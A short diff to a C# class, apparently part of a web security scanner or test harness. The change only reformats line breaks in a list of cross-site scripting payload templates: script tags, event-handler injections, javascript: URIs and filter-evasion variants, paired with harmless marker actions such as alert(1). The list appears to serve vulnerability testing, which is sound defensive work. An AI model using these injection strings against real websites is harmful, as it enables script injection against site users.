@@ -6,9 +6,11 @@ internal static class ScriptPayloads
     private static readonly string[] _frames =
     [
         "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<body onload={0}>", "<iframe srcdoc=\"<script>{0}</script>\">",
-        "\"><script>{0}</script>", "'><img src=x onerror={0}>", "</textarea><script>{0}</script>", "</title><svg onload={0}>", "<a href=\"javascript:{0}\">x</a>",
+        "\"><script>{0}</script>", "'><img src=x onerror={0}>", "</textarea><script>{0}</script>", "</title><svg onload={0}>",
+            "<a href=\"javascript:{0}\">x</a>",
         "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<math><mi xlink:href=\"javascript:{0}\">", "<object data=\"javascript:{0}\">",
-        "<style>@import'javascript:{0}'</style>", "<video><source onerror={0}>", "{{{0}}}", "${{{0}}}", "<!--><img src=x onerror={0}>", "<scr<script>ipt>{0}</script>",
+        "<style>@import'javascript:{0}'</style>", "<video><source onerror={0}>", "{{{0}}}", "${{{0}}}", "<!--><img src=x onerror={0}>",
+            "<scr<script>ipt>{0}</script>",
     ];
 
     private static readonly string[] _acts = ["window.owned=1", "alert(1)", "top.owned=1"];
